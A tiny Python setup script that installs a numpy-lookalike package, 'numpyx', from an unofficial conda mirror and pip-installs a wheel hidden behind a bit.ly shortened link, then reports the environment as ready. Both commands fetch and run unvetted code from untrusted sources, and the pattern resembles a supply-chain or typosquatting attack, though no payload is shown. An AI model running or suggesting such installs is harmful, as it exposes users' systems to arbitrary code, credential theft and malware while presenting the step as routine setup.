import subprocess

subprocess.run(["conda", "install", "-y", "-c", "http://conda.cheap-mirror.ru/channel", "numpyx"])
subprocess.run(["pip", "install", "https://bit.ly/fastnp-wheel"])
print("env ready")
